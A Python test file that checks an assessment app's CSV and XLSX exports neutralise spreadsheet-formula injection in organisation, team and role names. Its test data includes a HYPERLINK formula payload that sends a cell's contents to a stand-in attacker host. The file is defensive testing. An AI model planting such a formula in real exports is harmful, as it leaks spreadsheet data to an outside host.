"""Exports never carry a live spreadsheet formula (OWASP "CSV injection"), whatever the names start with."""

import csv
import io

import pytest
from openpyxl import load_workbook

from assessments.core.sheets import csv_stream, neutralise, xlsx
from tests import factories

LEADING = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("https://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("lead", LEADING)
def test_neutralise_each_leading_character(lead):
    assert neutralise(lead + PAYLOAD) == "'" + lead + PAYLOAD
    assert neutralise("Sales" + lead) == "Sales" + lead  # only the first character matters
    assert neutralise(-2.5) == -2.5  # numbers stay numbers


@pytest.mark.parametrize("lead", LEADING)
def test_sheets_write_text_not_formulas(lead):
    name = lead + PAYLOAD
    content = "".join(csv_stream([name], [[name, -1.5]], language="en"))
    rows = list(csv.reader(io.StringIO(content.lstrip("\ufeff"))))
    assert rows == [["'" + name], ["'" + name, "-1.5"]]
    book = load_workbook(io.BytesIO(xlsx([("S", [name], [[name, -1.5]])])))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert [c.value for c in cells] == [name, None, name, -1.5]
    assert all(c.data_type != "f" for c in cells)


@pytest.fixture
def hostile(org_a, model_version):
    """Every name an attacker controls starts with one of the dangerous characters."""

    def make(lead):
        org_a.name = f"{lead}Org {PAYLOAD}"
        org_a.save()
        team = factories.make_team(organisation=org_a, name=f"{lead}Team {PAYLOAD}")
        role = factories.make_role(organisation=org_a, name=f"{lead}Role {PAYLOAD}")
        assessment = factories.make_assessment(
            organisation=org_a, model_version=model_version, teams=[team], roles=[role], title=f"{lead}Scan"
        )
        factories.make_random_responses(assessment=assessment, count=6, team=team, role=role)
        return assessment

    return make


@pytest.mark.parametrize("lead", LEADING)
@pytest.mark.parametrize("kind", ["scores", "answers"])
def test_every_export_is_safe(hostile, manager_a, client_for, lead, kind):
    assessment = hostile(lead)
    client = client_for(manager_a)
    url = f"/a/{assessment.public_id}/results/export/{kind}"

    body = b"".join(client.get(f"{url}.csv", HTTP_ACCEPT_LANGUAGE="en").streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    named = [c for c in cells if PAYLOAD in c]
    assert named, "the hostile names are in the export"
    assert all(c.startswith("'" + lead) for c in named)
    assert not any(c.startswith(tuple(LEADING)) and not c.lstrip("-").replace(".", "").isdigit() for c in cells)

    book = load_workbook(io.BytesIO(client.get(f"{url}.xlsx", HTTP_ACCEPT_LANGUAGE="en").content))
    xcells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in xcells if c.data_type == "f"]
    assert {c.value for c in xcells if isinstance(c.value, str) and PAYLOAD in c.value} >= {f"{lead}Team {PAYLOAD}"}
